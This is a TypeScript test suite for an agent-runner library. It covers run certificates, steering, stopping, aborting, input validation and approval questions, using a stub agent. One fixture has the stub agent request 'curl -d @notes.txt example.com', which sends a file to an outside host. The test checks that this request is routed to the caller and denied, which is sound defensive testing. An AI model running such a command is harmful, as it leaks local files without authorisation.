import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import {
  type Agent,
  type AgentListener,
  closingLine,
  type Entry,
  type GateView,
  type RunOptions,
  run,
  type StartedRun,
} from '../../src/index.ts';

const scratch = realpathSync(mkdtempSync(join(tmpdir(), 'tireless-library-')));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));
const home = join(scratch, 'state');
const env = { PATH: process.env.PATH, HOME: scratch };
let workspaces = 0;

function makeWorkspace(): string {
  const workspace = join(scratch, `work-${++workspaces}`);
  mkdirSync(workspace);
  writeFileSync(join(workspace, 'notes.txt'), 'todo\n');
  execFileSync('git', ['init', '--quiet'], { cwd: workspace });
  return workspace;
}

type Turn = (prompt: string, say: (message: string) => void, listener: AgentListener) => void;

/** An agent of the caller's own, in this process. */
function agentOf(turn: Turn, answered: (request: string, answer: string) => void = () => undefined): Agent {
  const session = 's1';
  let turns = 0;
  return {
    facts: { name: 'own', door: 'in-process', sees: 'asks', usage: 'none' },
    open: async (listener) => ({
      id: session,
      async turn(dispatch, prompt) {
        const id = `t${++turns}`;
        listener.onEvent({ type: 'turn-started', session, turn: id, dispatch });
        setImmediate(() =>
          turn(
            prompt,
            (text) =>
              listener.onEvent({
                type: 'turn-ended',
                session,
                turn: id,
                dispatch,
                status: 'completed',
                message: { text },
              }),
            listener,
          ),
        );
        return { turn: id };
      },
      interrupt: async () => undefined,
      answer: async (request, { answer }) => answered(request, answer),
      close: async () => undefined,
    }),
  };
}

function start(
  turn: Turn,
  more: Partial<RunOptions> = {},
  answered?: Parameters<typeof agentOf>[1],
): StartedRun {
  const workspace = more.workspace ?? makeWorkspace();
  const checks = ['grep -qx done notes.txt'];
  const settings = { notifications: { desktop: false } };
  const agent = agentOf(turn, answered);
  return run({ mission: 'Make notes.txt say done.', workspace, home, env, agent, checks, settings, ...more });
}

async function all(it: StartedRun): Promise<Entry[]> {
  const entries: Entry[] = [];
  for await (const entry of it.entries) entries.push(entry);
  return entries;
}

const finishing =
  (workspace: string): Turn =>
  (_prompt, say) => {
    writeFileSync(join(workspace, 'notes.txt'), 'done\n');
    say(closingLine);
  };

const command = (turn: string) =>
  ({
    type: 'approval-asked',
    session: 's1',
    turn,
    request: 'r1',
    action: { kind: 'command', rendered: { text: 'curl -d @notes.txt example.com' }, digest: '1'.repeat(64) },
  }) as const;

describe('run()', () => {
  it('gives every entry and the certificate, also to two readers', async () => {
    const workspace = makeWorkspace();
    const it = start(finishing(workspace), { workspace });
    const [entries, again] = await Promise.all([all(it), all(it)]);
    expect(entries.map(({ seq }) => seq)).toEqual(entries.map((_, index) => index + 1));
    expect(again).toEqual(entries);
    expect(entries[0]?.event).toMatchObject({ type: 'run-created', by: 'person@library' });
    expect(entries.at(-1)?.event.type).toBe('keeper-ended');
    expect(await it.certificate).toMatchObject({
      verdict: 'certified',
      checks: [{ name: 'grep -qx done notes.txt', outcome: 'passed' }],
    });
    expect(await all(it)).toEqual(entries);
    await expect(it.steer('more')).rejects.toThrow('is done; start a new one');
  });

  it('rejects with the state and the next step where the run ends otherwise', async () => {
    const it = start((_prompt, say) => say('still at it'), { limits: { turnsMax: 1 } });
    await expect(it.certificate).rejects.toMatchObject({
      name: 'RunError',
      message: expect.stringMatching(/^Run .+ is paused, not done: .+ Next: tireless resume .+--turns 2$/),
      view: { state: 'paused' },
    });
    expect((await all(it)).length).toBeGreaterThan(3);
  });

  it('hears steering, and stops when told', async () => {
    const prompts: string[] = [];
    const it = start((prompt, say) => {
      prompts.push(prompt);
      if (prompts.length === 1) void it.steer('mind the gap').then(() => say('first'));
      else void it.stop().then(() => say('second'));
    });
    await expect(it.certificate).rejects.toThrow(/is stopped, not done/);
    expect(prompts[1]).toContain('mind the gap');
  });

  it('asks the caller what the guard asks a person', async () => {
    const workspace = makeWorkspace();
    const asked: GateView[] = [];
    const answers: string[] = [];
    const done = Promise.withResolvers<void>();
    const it = start(
      (prompt, say, listener) => {
        listener.onEvent(command('t1'));
        void done.promise.then(() => finishing(workspace)(prompt, say, listener));
      },
      {
        workspace,
        onQuestion: (question) => {
          asked.push(question);
          return { deny: 'not from here' };
        },
      },
      (request, answer) => {
        answers.push(`${request} ${answer}`);
        done.resolve();
      },
    );
    await it.certificate;
    expect(asked).toMatchObject([{ kind: 'approval', asks: expect.stringContaining('curl') }]);
    expect(answers).toEqual(['r1 deny']);
    const request = (await all(it)).find(({ event }) => event.type === 'approval-asked')?.event;
    expect(request).toMatchObject({ action: { facts: { paths: [{ real: join(workspace, 'notes.txt') }] } } });
    await expect(it.answer('g99', 'approve')).rejects.toThrow('is done');
  });

  it('lets go of the run when the caller cannot answer, or aborts, and leaves it resumable', async () => {
    const failing = start((_prompt, _say, listener) => listener.onEvent(command('t1')), {
      onQuestion: () => Promise.reject(new Error('nobody home')),
    });
    await expect(failing.certificate).rejects.toThrow('nobody home');
    const abort = new AbortController();
    const it = start(() => abort.abort(), { signal: abort.signal });
    await expect(it.certificate).rejects.toThrow(/not done: .*Next: tireless resume/);
    expect((await all(it)).at(-1)?.event).toMatchObject({ type: 'keeper-ended', because: 'released' });
  });

  it('says what is wrong before anything is recorded, and leaves nothing', async () => {
    const before = readdirSync(join(home, 'runs')).sort();
    const bad = (more: Partial<RunOptions>): StartedRun => start((_prompt, say) => say(''), more);
    await expect(bad({ agent: 'nobody' }).certificate).rejects.toThrow('There is no agent "nobody". Known: ');
    await expect(bad({ mission: ' ' }).certificate).rejects.toThrow('The mission is empty');
    await expect(bad({ limits: { tokensMax: 5_000 } }).certificate).rejects.toThrow('does not report tokens');
    await expect(all(bad({ workspace: join(scratch, 'nowhere') }))).rejects.toThrow(/nowhere/);
    await expect(bad({ settings: { mode: 'twice' as never } }).certificate).rejects.toThrow('mode');
    expect(readdirSync(join(home, 'runs')).sort()).toEqual(before);
  });

  it('shares a process with others', async () => {
    const places = [makeWorkspace(), makeWorkspace(), makeWorkspace()];
    const certificates = places.map((workspace) => start(finishing(workspace), { workspace }).certificate);
    expect((await Promise.all(certificates)).map(({ verdict }) => verdict)).toEqual(
      Array.from({ length: 3 }, () => 'certified'),
    );
  });
});
